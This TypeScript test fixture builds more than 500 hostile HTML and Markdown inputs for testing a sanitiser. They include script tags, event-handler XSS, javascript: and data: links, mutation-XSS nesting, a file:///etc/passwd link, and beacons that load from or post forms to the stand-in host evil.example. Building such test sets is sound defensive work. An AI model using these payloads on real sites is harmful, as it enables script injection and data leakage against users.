/** Hostile Markdown and HTML for the tests: scripts, beacons, frames, forms, and ways around a sanitiser. */

const BEACON = 'https://evil.example/b';

const HTML = [
  '<script>alert(1)</script>', '<script src="https://evil.example/x.js"></script>', '<img src=x onerror=alert(1)>', `<img src="${BEACON}">`,
  `<img srcset="${BEACON} 1x">`, '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', `<svg><image href="${BEACON}"/></svg>`,
  `<svg><use href="${BEACON}#a"/></svg>`, '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<iframe src="javascript:alert(1)"></iframe>',
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="${BEACON}"></object>`, `<embed src="${BEACON}">`, `<link rel=stylesheet href="${BEACON}">`,
  `<link rel=prefetch href="${BEACON}">`, `<style>@import url(${BEACON});</style>`, `<style>*{background:url(${BEACON})}</style>`, `<p style="background:url(${BEACON})">x</p>`,
  `<body background="${BEACON}">`, `<table background="${BEACON}"><tr><td>x</td></tr></table>`, `<video poster="${BEACON}"></video>`, `<video src="${BEACON}" autoplay></video>`,
  `<audio src="${BEACON}" autoplay></audio>`, `<source src="${BEACON}">`, `<track src="${BEACON}">`, `<base href="${BEACON}">`, `<meta http-equiv="refresh" content="0;url=${BEACON}">`,
  `<form action="${BEACON}"><input name=a></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<input type=image src="${BEACON}">`, `<a href="javascript:alert(1)">x</a>`,
  `<a href="${BEACON}" ping="${BEACON}">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>x</marquee>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>', '<div id="app"></div><form id=x><input name=attributes></form>', '<a id="__proto__"></a>', '<xss style="animation-name:x" onanimationstart=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<select><option><script>alert(1)</script>', '<isindex action=javascript:alert(1)>', '<plaintext>', '<!--<img src="--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>', '<?php echo 1 ?>', `<dialog open onclose=alert(1)>`, `<portal src="${BEACON}">`, '<p onclick=alert(1) tabindex=1 id=x>x</p>', '<span data-url="javascript:alert(1)">x</span>',
  '<a data-url="javascript:alert(1)">x</a>', `<span data-image="${BEACON}" onclick=alert(1)>x</span>`, '<img/src="x"/onerror=alert`1`>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '&lt;script&gt;alert(1)&lt;/script&gt;',
];

const MARKDOWN = [
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\tscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](vbscript:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)', '[x](http://evil.example)', '[x](//evil.example)', '[x](https://user:pw@evil.example)', '[x](bcagent://open)', '[x](blob:https://evil.example/1)', `![x](${BEACON})`,
  '![x](javascript:alert(1))', `![a](${BEACON} "t\\" onerror=\\"alert(1)")`, `[![x](${BEACON})](https://evil.example)`, `![x][1]\n\n[1]: ${BEACON}`, '[x][1]\n\n[1]: javascript:alert(1)', '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>', '[x](https://evil.example/"onmouseover="alert(1))', '[x](https://evil.example "title\\" onmouseover=alert(1)")', '[x](https://evil.example/<script>)',
  '`<script>alert(1)</script>`', '```html\n<script>alert(1)</script>\n```', '```"><img src=x onerror=alert(1)>\nx\n```', '    <script>alert(1)</script>', '~~~\n<img src=x onerror=alert(1)>\n~~~',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |', `| ![x](${BEACON}) |\n| --- |\n| [x](javascript:alert(1)) |`, '- [x] <script>alert(1)</script>', '> <iframe src=javascript:alert(1)>', '# <svg onload=alert(1)>',
  '**<img src=x onerror=alert(1)>**', '~~[x](javascript:alert(1))~~', '[a](<javascript:alert(1)>)', '[a]( javascript:alert(1))', '[a](javascript&colon;alert(1))', '[\u202Ejavascript](https://evil.example)',
  '[x](\u0001javascript:alert(1))', 'www.evil.example', 'https://evil.example/b.gif', `<p>[x](javascript:alert(1))</p>`, '<details>\n\n![x](https://evil.example/b)\n\n</details>', '\\<script>alert(1)</script>',
  '[constructor](https://evil.example/__proto__)', '[x](https://evil.example#javascript:alert(1))', '![\\"><script>alert(1)</script>](x)', '![x](x"onerror="alert(1))',
];

const WRAPPERS: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Some text before ${payload} and after`,
  (payload) => `- item\n- ${payload}\n\nAfter`,
  (payload) => `> ${payload.replaceAll('\n', '\n> ')}`,
  (payload) => `| Name |\n| --- |\n| ${payload.replaceAll('\n', ' ').replaceAll('|', '\\|')} |`,
];

/** Every payload in every place: more than 500. */
export const PAYLOADS: string[] = [...HTML, ...MARKDOWN].flatMap((payload) => WRAPPERS.map((wrap) => wrap(payload)));
